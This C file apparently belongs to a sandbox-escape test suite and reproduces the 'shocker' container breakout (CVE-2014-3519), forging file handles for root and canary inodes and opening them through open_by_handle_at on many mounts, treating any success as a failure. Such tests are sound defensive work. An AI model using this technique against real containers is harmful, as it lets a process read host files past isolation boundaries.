/* SPDX-License-Identifier: Apache-2.0
 *
 * Idea: a file handle names a file by its number, past every directory that hides it ("shocker",
 * CVE-2014-3519). Asks for handles of what is visible, makes up those of what is not (the root
 * inodes of the usual filesystems, the canary's own inode number), and opens them relative to every
 * mount that can be opened.
 */
#include "attempt.h"

struct handle {
	unsigned int bytes;
	int type;
	unsigned char id[128];
};

static long open_handle(int mount_fd, struct handle *handle, int flags)
{
	return syscall(SYS_open_by_handle_at, mount_fd, handle, flags);
}

static void ask(const char *path)
{
	struct handle handle = {.bytes = sizeof(handle.id)};
	int mount_id[2] = {0};
	int mount_fd = open(path, O_RDONLY | O_CLOEXEC);
	long fd;

	if (mount_fd < 0)
		return;
	refused(syscall(SYS_name_to_handle_at, AT_FDCWD, path, &handle, mount_id, 0),
		"name_to_handle_at(%s)", path);
	fd = open_handle(mount_fd, &handle, O_RDONLY);
	refused(fd, "open_by_handle_at(%s)", path);
	if (fd >= 0)
		close((int)fd);
	close(mount_fd);
}

/* Handles of type 1 (inode and generation), 0x81 (64-bit inode), and overlay's 0xf8. */
static void forge(const char *mount, uint64_t inode)
{
	static const int types[] = {1, 0x81, 0x82, 0xf8, 0xfb, 0xfe};
	int mount_fd = open(mount, O_RDONLY | O_CLOEXEC);
	char text[200] = "";

	if (mount_fd < 0)
		return;
	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
		struct handle handle = {.bytes = 8, .type = types[i]};
		long fd;

		memcpy(handle.id, &inode, sizeof(inode));
		fd = open_handle(mount_fd, &handle, O_RDONLY);
		must_not(fd >= 0, "a forged handle for inode %llu on %s %s",
			 (unsigned long long)inode, mount,
			 fd >= 0 && fd_has_secret((int)fd, text, sizeof(text)) ? text : "");
		if (fd >= 0)
			close((int)fd);
	}
	close(mount_fd);
}

int main(void)
{
	static const char *const mounts[] = {"/",    "/usr", "/etc",	 "/tmp", "/proc",
					     "/dev", ".",    "/dev/shm", "/home"};
	uint64_t inode =
		canary("FILE_INODE") != NULL ? strtoull(canary("FILE_INODE"), NULL, 10) : 0;

	for (size_t i = 0; i < sizeof(mounts) / sizeof(mounts[0]); i++) {
		ask(mounts[i]);
		forge(mounts[i], 2);
		forge(mounts[i], 128);
		if (inode != 0)
			forge(mounts[i], inode);
	}
	return done();
}
